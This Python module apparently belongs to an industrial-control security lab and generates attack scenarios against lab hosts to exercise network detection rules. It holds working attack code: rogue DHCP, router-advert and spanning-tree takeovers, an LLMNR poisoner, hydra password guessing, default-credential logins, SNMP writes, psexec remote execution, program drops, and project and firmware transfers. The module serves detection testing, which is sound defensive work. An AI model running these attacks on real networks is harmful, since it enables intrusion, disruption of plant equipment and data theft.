"""What goes on beside control traffic: who serves the network, who logs on where and how, which files go by; and a controller whose
connections are used up.

The servers are what Debian ships (dnsmasq, radvd, vsftpd, telnetd, snmpd, in.tftpd, impacket's file server) on `office`, the clients hydra, curl,
smbclient, tftp and the snmp tools; `tests/lab/setup services` installs them. Benign twin: `twin-services`, the same servers used as they should be.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from ..plan import machine
from ..plant import modbus_client
from ..shell import run
from .base import Act, Attack, Text, text
from .beside import CARD, beside
from .guessing import guess
from .servers import ftp, smb, snmp, telnet, tftp, web

OFFICE = machine("office").ip
PASSWORDS = ("12345", "plant", "line1", "siemens", "scada", "hmi", "letmein", "admin")


def _held() -> None:
    """Twenty connections, as a client that forgets to close them has."""
    held = [modbus_client.connect("plc-water") for _ in range(20)]
    time.sleep(3)
    for connection in held:
        connection.close()


def _dhcp() -> None:
    """dnsmasq gives out addresses; office asks for one, as a laptop does, and does not use it."""
    with tempfile.TemporaryDirectory() as folder:
        leases = Path(folder) / "leases"
        command = ["timeout", "8", "dnsmasq", "-d", "-p", "0", "-i", CARD, "--bind-interfaces", "-F", "10.20.0.230,10.20.0.239,1h", "-l", str(leases), "-C", "/dev/null"]
        ask = lambda: run("timeout", "6", "dhclient", "-1", "-d", "-sf", "/bin/true", "-lf", f"{folder}/dhclient", "-pf", f"{folder}/pid", CARD, check=False)  # noqa: E731
        with beside("office", ask, settle=0):
            run(*command, check=False, timeout=20)


def _router() -> None:
    """radvd calls itself the way out."""
    for name in ("all", CARD):
        Path(f"/proc/sys/net/ipv6/conf/{name}/disable_ipv6").write_text("0")
    Path(f"/proc/sys/net/ipv6/conf/{CARD}/forwarding").write_text("1")
    run("ip", "link", "set", CARD, "multicast", "on")
    time.sleep(2.5)
    with tempfile.NamedTemporaryFile("w", suffix=".conf") as conf:
        conf.write(f"interface {CARD} {{ AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; prefix fd00:bad::/64 {{ }}; }};")
        conf.flush()
        run("timeout", "6", "radvd", "-n", "-C", conf.name, "-p", f"{conf.name}.pid", check=False, timeout=20)
    run("ip", "link", "set", CARD, "multicast", "off")
    for name in (CARD, "all"):
        Path(f"/proc/sys/net/ipv6/conf/{name}/disable_ipv6").write_text("1")


def _root() -> None:
    """The kernel's own spanning tree, with a priority that wins."""
    run("ip", "link", "add", "br9", "type", "bridge", "stp_state", "1", "priority", "4096")
    run("ip", "link", "set", CARD, "master", "br9")
    run("ip", "link", "set", "br9", "up")
    time.sleep(5)
    run("ip", "link", "set", CARD, "nomaster")
    run("ip", "link", "del", "br9")


def _poison() -> None:
    """Answers whoever asks all for a name, as Responder does; hmi-press asks for machines that are not there."""

    def ask() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(machine("hmi-press").ip))
            for number, name in enumerate((b"fileserver", b"printer2", b"wpad", b"scada-old")):
                query = struct.pack(">6H", 0x7000 + number, 0, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\0" + struct.pack(">2H", 1, 1)
                asking.sendto(query, ("224.0.0.252", 5355))
                time.sleep(0.5)

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as answering:
        answering.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        answering.bind(("", 5355))
        membership = socket.inet_aton("224.0.0.252") + socket.inet_aton(machine("intruder").ip)
        answering.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
        answering.settimeout(4)
        with beside("hmi-press", ask, settle=0), contextlib.suppress(TimeoutError):
            while True:
                query, peer = answering.recvfrom(512)
                record = query[12:] + struct.pack(">IH", 30, 4) + socket.inet_aton(machine("intruder").ip)
                answering.sendto(query[:2] + struct.pack(">5H", 0x8000, 1, 1, 0, 0) + query[12:] + record, peer)


def _hydra(service: str, serve: Callable[[], None], user: str | None = "admin", words: tuple[str, ...] = PASSWORDS) -> Callable[[], None]:
    def act() -> None:
        with beside("office", serve, settle=2):
            guess(OFFICE, service, user, words)

    return act


def _web() -> None:
    with beside("office", web, settle=1):
        run("curl", "-s", "-m", "5", "-u", "admin:admin", f"http://{OFFICE}/settings", check=False)


def _snmp_read() -> None:
    with beside("office", snmp, settle=2):
        run("snmpget", "-v2c", "-c", "public", "-t", "2", OFFICE, "1.3.6.1.2.1.1.1.0", check=False)


def _snmp_set() -> None:
    with beside("office", snmp, settle=2):
        run("snmpset", "-v2c", "-c", "plant-rw", "-t", "2", OFFICE, "1.3.6.1.2.1.1.5.0", "s", "not-the-press", check=False)


def _program(folder: str) -> str:
    """A file that is a program for Windows by its headers, and does nothing."""
    header = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + bytes(64) + b"PE\0\0\x64\x86" + bytes(500)
    file = Path(folder) / "svchelper.exe"
    file.write_bytes(header)
    return str(file)


def _share() -> None:
    with tempfile.TemporaryDirectory() as folder, beside("office", smb, settle=4):
        put = f"put {_program(folder)} svchelper.exe"
        run("smbclient", "-U", "plant%plant", "-c", put, f"//{OFFICE}/share", check=False, timeout=30)


def _service() -> None:
    """impacket's psexec loads a program up and asks the service control manager to run it."""
    with beside("office", smb, settle=4):
        run("/usr/bin/python3", "/usr/share/doc/python3-impacket/examples/psexec.py", f"plant:plant@{OFFICE}", "whoami", check=False, timeout=30)


def _download() -> None:
    with tempfile.TemporaryDirectory() as folder, beside("office", lambda: web(_program(folder)), settle=1):
        run("curl", "-s", "-m", "5", "-o", "/dev/null", f"http://{OFFICE}/update/svchelper.exe", check=False)


def _project() -> None:
    with tempfile.TemporaryDirectory() as folder, beside("office", ftp, settle=2):
        project = Path(folder) / "press-line.ap17"
        project.write_bytes(b"project of the press" * 40)
        run("curl", "-s", "-m", "8", "-T", str(project), "-u", "plant:plant", f"ftp://{OFFICE}/", check=False)


def _firmware() -> None:
    with tempfile.TemporaryDirectory() as folder, beside("office", tftp, settle=1):
        image = Path(folder) / "device.upd"
        image.write_bytes(bytes(2000))
        run("tftp", OFFICE, "-c", "put", str(image), "device.upd", check=False, timeout=20)


def _act(detection: str, name: str, actor: str, what: Text, frames: str, tool: str, do: Callable[[], None], also: tuple[str, ...] = ()) -> Act:
    return Act(name, actor, None, what, tool, frames, do, detection=detection, also=also)


ATTACK = Attack(
    "services",
    text("冒充网络服务、猜口令、传送程序和占满连接", "Strange network services, guessed passwords, programs sent about, connections used up"),
    (
        Act("held", "hmi-press", "plc-water", text("占用水箱 PLC 的 20 个连接", "Twenty connections to the tank's PLC are held"), "pymodbus", "tcp.port == 502", _held, detection="NET-16"),
        _act("NET-19", "dhcp", "intruder", text("陌生的 DHCP 服务器", "A strange DHCP server"), "dhcp", "dnsmasq", _dhcp),
        _act("NET-19", "router", "intruder", text("陌生的 IPv6 路由器", "A strange router of IPv6"), "icmpv6", "radvd", _router),
        _act("NET-19", "root-bridge", "intruder", text("陌生的生成树根", "A strange root of the spanning tree"), "stp", "iproute2", _root),
        _act("NET-19", "poison", "intruder", text("冒答 LLMNR 名称", "Names of others are answered for by LLMNR"), "llmnr", "scripted", _poison),
        _act("NET-21", "ftp", "intruder", text("猜 FTP 口令", "The password of FTP is guessed"), "tcp.port == 21", "hydra", _hydra("ftp", ftp), also=("NET-22",)),
        _act("NET-21", "web", "intruder", text("猜网页口令", "The password of a web page is guessed"), "tcp.port == 80", "hydra", _hydra("http-get /settings", web), also=("NET-22",)),
        _act("NET-21", "snmp", "intruder", text("猜 SNMP 团体名", "The community of SNMP is guessed"), "udp.port == 161", "hydra", _hydra("snmp", snmp, user=None, words=("plant1", "plc", "siemens", "line", "public")), also=("NET-22",)),
        _act("NET-20", "telnet", "eng", text("用默认口令尝试 Telnet", "Telnet is tried with a default password"), "tcp.port == 23", "hydra", _hydra("telnet", telnet, words=("admin",))),
        _act("NET-22", "web-default", "eng", text("用默认口令打开网页", "A web page is opened by a default password"), "tcp.port == 80", "curl", _web),
        _act("NET-22", "snmp-public", "historian", text("用默认团体名读取 SNMP", "SNMP is read with the community that makers ship"), "udp.port == 161", "snmp", _snmp_read),
        _act("NET-27", "snmp-set", "intruder", text("用 SNMP 改设备名", "A device is renamed by SNMP"), "udp.port == 161", "snmp", _snmp_set),
        _act("NET-23", "share", "mes", text("把程序放到共享文件夹", "A program is put on a share"), "tcp.port == 445", "smbclient", _share),
        _act("NET-23", "service", "mes", text("经服务管理器远程执行", "A program is run by the service control manager"), "tcp.port == 445", "impacket", _service),
        _act("NET-23", "download", "hmi-press", text("操作员站下载程序", "An operator station downloads a program"), "tcp.port == 80", "curl", _download),
        _act("NET-23", "project", "eng", text("经 FTP 传出工程文件", "A project file goes by FTP"), "tcp.port == 21", "curl", _project, also=("NET-22",)),
        _act("NET-27", "firmware", "eng", text("经 TFTP 写入固件", "Firmware is written by TFTP"), "udp.port == 69", "tftp", _firmware),
    ),
    also=("NET-01", "NET-02", "NET-06", "NET-20", "NET-19"),
)
